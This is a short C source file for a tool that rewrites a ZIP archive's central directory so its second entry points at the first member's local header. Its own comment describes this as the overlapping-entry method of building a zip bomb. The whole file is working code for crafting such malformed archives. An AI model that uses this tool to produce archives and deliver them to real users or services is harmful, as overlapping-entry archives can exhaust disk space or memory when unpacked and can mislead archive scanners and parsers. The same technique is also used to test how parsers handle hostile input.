/* overlap IN.zip OUT.zip: makes the second entry of the directory lead to where the first member lies, as a
 * zip bomb without an archive inside does. */
#include <stdbool.h>
#include <stdio.h>
#include <string.h>

static unsigned char zip[1 << 20];

static size_t find_entry(size_t from, size_t len)
{
    for (size_t i = from; i + 46 <= len; i++)
        if (memcmp(zip + i, "PK\1\2", 4) == 0)
            return i;
    return 0;
}

int main(int argc, char **argv)
{
    FILE *in = argc == 3 ? fopen(argv[1], "rb") : NULL, *out = in ? fopen(argv[2], "wb") : NULL;
    if (!out)
        return 2;
    size_t len = fread(zip, 1, sizeof zip, in);
    size_t first = find_entry(0, len), second = first ? find_entry(first + 46, len) : 0;
    if (!second)
        return 1;
    memcpy(zip + second + 42, zip + first + 42, 4); /* where its local header is */
    bool good = fwrite(zip, 1, len, out) == len;
    return fclose(out) == 0 && fclose(in) == 0 && good ? 0 : 1;
}
